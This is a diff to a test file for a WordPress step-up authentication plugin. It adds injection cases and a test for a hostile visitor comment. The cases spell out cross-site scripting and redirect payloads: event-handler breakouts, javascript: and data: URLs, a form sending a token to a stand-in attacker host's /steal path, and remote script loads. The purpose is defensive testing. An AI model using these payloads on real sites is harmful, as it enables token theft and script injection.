@@ -205,6 +205,14 @@ const INJECTIONS: Record<string, string> = {
   'a form that aims the token elsewhere': `[stepup resource="documents" action="delete"]<form action="${EVIL}/steal" method="post" data-stepup-fetch data-stepup-fetch-redirect="${EVIL}/"><button>B</button></form>[/stepup]`,
   'a form that aims it at another path': `[stepup resource="documents" action="delete"]<form action="/wp-json/wp/v2/users/me" method="post" data-stepup-fetch><button>B</button></form>[/stepup]`,
   'a link with a script, marked': `[stepup resource="documents" action="delete"]<a href="javascript:hacked=1" data-stepup-resource="documents" data-stepup-action="delete" data-stepup-console-url="${EVIL}/">B</a>[/stepup]`,
+  'a shortcode in attributes': `<a href="[stepup resource='documents' action='delete']x[/stepup]" title='[stepup resource="documents" action="delete" comment="x onmouseover=hacked=1"]B[/stepup]'>B</a>[stepup resource="documents" action="delete"]<button>B</button>[/stepup]`,
+  'a shortcode that ends in an attribute': `[stepup resource="documents" action="delete"]<a href="#" title="x[/stepup]<img src=x onerror=hacked=1> y">B</a>[/stepup]`,
+  'shortcodes in shortcodes': `[stepup mode="reveal" resource="documents" action="delete"]</template></stepup-gate>[stepup resource='a" onclick="hacked=1' action="delete" comment="[stepup]"]<b title="[/stepup]" onclick="hacked=1">B</b>[/stepup]</stepup-gate>[/stepup]`,
+  'addresses that are scripts': `[stepup resource="documents" action="delete"]<a href="data:text/html,<script>hacked=1</script>">A</a><a href="java&#09;script:hacked=1">B</a><button formaction="javascript:hacked=1" popovertarget="x">C</button><iframe src="javascript:hacked=1"></iframe><object data="javascript:hacked=1"></object><embed src="${EVIL}/x"><svg><use href="data:image/svg+xml,x#x"></use></svg>[/stepup]`,
+  'a page that goes elsewhere': `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/"><link rel="stylesheet" href="${EVIL}/x.css"><link rel="modulepreload" href="${EVIL}/x.js">[stepup resource="documents" action="delete"]<button>B</button>[/stepup]`,
+  'settings of the script, on anything': `<div id="stepup-elements-js" data-provider="oidc" data-issuer="${EVIL}" data-client-id="x" data-project-id="evil" data-sdk-src="${EVIL}/x.js" data-console-url="${EVIL}/" data-form-actions="/*" data-api-origins="${EVIL}">[stepup resource="documents" action="delete"]<button data-project-id="evil" data-sdk-src="${EVIL}/x.js" data-path="${EVIL.replace('https:', '')}/steal">B</button>[/stepup]</div>`,
+  'slots, a language, and a look over the page': `<div lang="../../evil" dir="rtl" style="position:fixed;inset:0;z-index:9999">[stepup resource="documents" action="delete" style="position:fixed" slot="x"]<button slot="failed" style="position:fixed;inset:0" lang="de/../../x">B</button><p slot="setup-required" is="x-y">A</p>[/stepup]</div>`,
+  'a block with what editors add': `<!-- wp:stepup/gate {"resource":"documents","action":"delete","style":{"position":{"type":"fixed"},"background":{"backgroundImage":{"url":"${EVIL}/x"}}},"className":"x\u0022 onclick=\u0022hacked=1","anchor":"x\u0022 onclick=\u0022hacked=1","tagName":"script","align":"x\u0022 onclick=\u0022hacked=1","layout":{"type":"x"},"lang":"x","data-sdk-src":"${EVIL}/x.js"} --><button>B</button><!-- /wp:stepup/gate -->`,
 };
 
 // What the element takes, what it reflects, and nothing that leads anywhere.
@@ -252,6 +260,33 @@ describe('an author who may not write scripts', () => {
       });
     });
   }
+});
+
+describe('a visitor who comments', () => {
+  it('marks nothing, and draws no gate', async () => {
+    wordpress.run(
+      `update_option( 'comment_previously_approved', 0 ); update_option( 'comment_moderation', 0 );`,
+    );
+    const address = await editor.publish(`[stepup resource="documents" action="delete"]${BUTTON}[/stepup]`);
+    const post = /postid-(\d+)/.exec(await (await fetch(address)).text())![1]!;
+    const written = `A word. [stepup resource="documents" action="delete"]<b>B</b>[/stepup] <a href="${EVIL}/" data-stepup-resource="documents" data-stepup-action="delete" onclick="hacked=1">C</a><stepup-gate resource="documents" action="read">D</stepup-gate><!-- wp:stepup/gate {"resource":"a","action":"read"} -->E<!-- /wp:stepup/gate -->`;
+    const answer = await fetch(`${wordpress.origin}/wp-comments-post.php`, {
+      method: 'POST',
+      redirect: 'manual',
+      body: new URLSearchParams({
+        comment: written,
+        author: 'V',
+        email: 'v@example.test',
+        comment_post_ID: post,
+      }),
+    });
+    assert.equal(answer.status, 302);
+    await visit(address, async ({ page }) => {
+      await page.getByText('A word.').waitFor();
+      assert.equal(await page.locator('stepup-gate').count(), 1);
+      assert.equal(await page.locator('[data-stepup-resource], [onclick]').count(), 0);
+    });
+  });
 });
 
 /** Whether something is drawn within a moment; what is locked for good draws nothing. */
